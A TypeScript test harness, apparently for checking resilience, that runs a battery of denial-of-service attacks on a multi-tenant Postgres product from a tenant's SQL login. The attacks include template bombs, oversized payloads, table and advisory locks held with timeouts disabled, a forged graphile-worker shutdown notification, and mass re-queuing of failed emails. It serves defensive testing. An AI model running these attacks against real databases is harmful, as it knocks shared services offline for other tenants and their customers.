// What a tenant's own SQL login can do against availability: each attack runs again and again on a connection of its
// own until it is stopped. Errors are expected: Postgres refuses some statements, and the session guard ends sessions.
import { randomUUID } from "node:crypto";
import { setTimeout as sleep } from "node:timers/promises";
import pg from "pg";

/** One round of an attack, on a fresh connection. */
export interface Attack {
  readonly name: string;
  /** Pause between rounds, in milliseconds. */
  readonly everyMs: number;
  readonly round: (client: pg.Client, holdMs: number) => Promise<void>;
}

const LOCKS_OF_OLD = ["stripe platform", "sms_numbers +15005550006"] as const;

/** Runs each statement, and goes on where one is refused. */
async function tryAll(client: pg.Client, statements: readonly string[]): Promise<void> {
  for (const statement of statements) await client.query(statement).catch(() => {});
}

const unlimited = "set statement_timeout = 0; set idle_in_transaction_session_timeout = 0; set lock_timeout = 0";

const insertMail = (subject: string, body: string, metadata: string): string =>
  `insert into ai_email_queue (recipient, subject, body, metadata, job_priority)
   values ('x@b.example', ${subject}, ${body}, ${metadata}, -50)`;

/** The attacks of the review that this product was given, and relatives of them. */
export const attacks: readonly Attack[] = [
  {
    name: "a text of 512 million characters",
    everyMs: 2000,
    round: (client) =>
      tryAll(client, [
        `insert into ai_sms_queue (recipient, body, metadata) values ('+13035550177',
           '{% for i in (1..2000) %}{{ x }}{% endfor %}',
           jsonb_build_object('transactional', true, 'type', 'appointment', 'x', repeat('a', 256000)))`,
        `insert into ai_sms_queue (recipient, body, metadata) values ('+13035550177',
           '{% for i in (1..60000) %}{{ x }}{% endfor %}',
           jsonb_build_object('transactional', true, 'type', 'appointment', 'x', repeat('a', 60000)))`,
      ]),
  },
  {
    name: "a subject that cannot be sent",
    everyMs: 1000,
    round: (client) =>
      tryAll(client, [
        insertMail(
          `'{% for i in (1..1100) %}{{ x }}{% endfor %}'`,
          "'b'",
          `jsonb_build_object('x', repeat('"', 250000))`,
        ),
        insertMail(
          `'{% for i in (1..1100) %}{{ x }}{% endfor %}'`,
          "'b'",
          `jsonb_build_object('x', repeat('"', 60000))`,
        ),
      ]),
  },
  {
    name: "templates that take a minute",
    everyMs: 1500,
    round: (client) =>
      tryAll(client, [
        insertMail("'s'", "repeat('{{ a }}', 149000)", "'{}'"),
        insertMail("'s'", "repeat('<b>', 300000)", "'{}'"),
        insertMail("'s'", "repeat('<ul><li>', 120000)", "'{}'"),
        insertMail("'s'", "repeat('{{ a }}x', 40000)", "'{}'"),
        insertMail("'s'", "repeat('{{ x | raw }}', 2000)", "jsonb_build_object('x', repeat('a', 60000))"),
        insertMail("'s'", "'{% for i in (1..100000) %}{% for j in (1..100000) %}{% endfor %}{% endfor %}'", "'{}'"),
      ]),
  },
  {
    name: "many slow templates at once",
    everyMs: 5000,
    round: (client) =>
      tryAll(client, [
        `insert into ai_email_queue (recipient, subject, body)
         select 'x' || i || '@b.example', 's', '{% for i in (1..' || 30000 + i || ') %}{% assign y = i | times: 3 %}{% endfor %}'
         from generate_series(1, 200) as i`,
      ]),
  },
  {
    name: "advisory locks that the product once used",
    everyMs: 500,
    round: async (client, holdMs) => {
      await client.query(unlimited);
      await tryAll(client, ["select pg_advisory_lock(7251020241)"]);
      for (const name of LOCKS_OF_OLD) {
        await client.query("select pg_advisory_lock(hashtextextended($1, 0))", [name]).catch(() => {});
      }
      await sleep(holdMs);
    },
  },
  {
    name: "the keys of the workers' own locks",
    everyMs: 500,
    round: async (client, holdMs) => {
      await client.query(unlimited);
      const { rows } = await client.query<{ classid: number; objid: string }>(
        "select classid::bigint, objid::bigint from pg_locks where locktype = 'advisory' and objsubid = 2 limit 1",
      );
      const [key] = rows;
      if (key === undefined) return;
      // Waits behind the worker; ended by closing the connection.
      void client
        .query(
          "select pg_advisory_lock($1::int, ($2::bigint - case when $2::bigint > 2147483647 then 4294967296 else 0 end)::int)",
          [key.classid, key.objid],
        )
        .catch(() => {});
      await sleep(holdMs);
    },
  },
  {
    name: "LOCK TABLE",
    everyMs: 500,
    round: async (client, holdMs) => {
      await client.query(unlimited);
      for (const table of [
        "ai_email_queue",
        "ai_sms_queue",
        "payment_requests",
        "revenue_leads",
        "tenants",
        "webhook_events",
      ]) {
        for (const mode of ["access exclusive", "share row exclusive", "share"]) {
          await tryAll(client, ["begin", `lock table ${table} in ${mode} mode nowait`]);
          await client.query("rollback").catch(() => {});
        }
      }
      await tryAll(client, ["begin", "lock table ai_email_queue in access exclusive mode"]);
      await sleep(holdMs);
    },
  },
  {
    name: "its own rows, locked in an open transaction beside 60 due ones",
    everyMs: 500,
    round: async (client, holdMs) => {
      await client.query(unlimited);
      await tryAll(client, [
        `insert into revenue_leads (contact_name, email, phone) select 'L' || i, 'l' || i || '@b.example', '+1303555' || lpad(i::text, 4, '0') from generate_series(1, 60) as i`,
        "insert into ai_email_queue (recipient, subject, body) select id::text, 's', 'b' from revenue_leads order by created_at desc limit 60",
        `insert into ai_sms_queue (recipient, body, metadata) select '+13035550177', 's', '{"transactional": true}' from generate_series(1, 60)`,
        "insert into payment_requests (plan_code) select 'starter' from generate_series(1, 60)",
        "begin",
        "select from revenue_leads for update",
        "select from payment_requests for update",
        "update ai_sms_queue set metadata = metadata",
        "update ai_email_queue set metadata = metadata",
        "select from contact_consents for update",
      ]);
      await sleep(holdMs);
    },
  },
  {
    name: "an old snapshot",
    everyMs: 500,
    round: async (client, holdMs) => {
      await client.query(unlimited);
      await tryAll(client, ["begin isolation level repeatable read", "select count(*) from ai_email_queue"]);
      await sleep(holdMs);
    },
  },
  {
    name: "rules, metadata and conditions without bounds",
    everyMs: 3000,
    round: (client) =>
      tryAll(client, [
        `insert into revenue_leads (contact_name, email, metadata) values ('big', '${randomUUID()}@b.example', jsonb_build_object('x', repeat('a', 20000000)))`,
        `insert into campaign_rules (campaign_id, name, condition)
         select c.id, gen_random_uuid()::text,
           jsonb_build_object('any', (select jsonb_agg(jsonb_build_object('event', 'e' || i, 'within', '1 day')) from generate_series(1, 20000) as i))
         from campaigns as c limit 1`,
      ]),
  },
  {
    name: "notifications that end graphile-worker's run",
    everyMs: 5000,
    round: (client) =>
      tryAll(client, [`select pg_notify('worker:migrate', '{"migrationNumber":999,"breaking":true}')`]),
  },
  {
    name: "large objects and broken bulk statements",
    everyMs: 2000,
    round: (client) =>
      tryAll(client, [
        "select lo_from_bytea(0, convert_to(repeat('a', 1000000), 'UTF8'))",
        "select pg_logical_emit_message(false, 'x', repeat('a', 1000000))",
        "update ai_email_queue set status = 'pending' where status in ('failed', 'skipped')",
      ]),
  },
];

export interface Siege {
  /** Rounds of each attack so far. */
  readonly rounds: ReadonlyMap<string, number>;
  stop(): Promise<void>;
}

/**
 * Starts all attacks at once, as the login of connectionString. holdMs: how long an attack holds what it has locked
 * before it begins again; a session guard may end it earlier.
 */
export function besiege(connectionString: string, holdMs: number): Siege {
  const stopped = new AbortController();
  const rounds = new Map<string, number>();
  const run = async ({ name, everyMs, round }: Attack): Promise<void> => {
    while (!stopped.signal.aborted) {
      const client = new pg.Client({ connectionString, application_name: `attack: ${name}`.slice(0, 60) });
      client.on("error", () => {});
      const close = (): void => {
        client.end().catch(() => {});
        const { connection } = client as unknown as { connection: { stream: { destroy(): void } } };
        connection.stream.destroy();
      };
      stopped.signal.addEventListener("abort", close, { once: true });
      try {
        await client.connect();
        await round(client, holdMs);
        rounds.set(name, (rounds.get(name) ?? 0) + 1);
      } catch {
        // Refused, or its session was ended: the next round opens another.
      } finally {
        stopped.signal.removeEventListener("abort", close);
        close();
      }
      await sleep(everyMs, undefined, { signal: stopped.signal }).catch(() => {});
    }
  };
  const only = process.env["HOSTILE_ONLY"];
  const running = attacks.filter(({ name }) => only === undefined || name.includes(only)).map(run);
  return {
    rounds,
    stop: async () => {
      stopped.abort();
      await Promise.all(running);
    },
  };
}
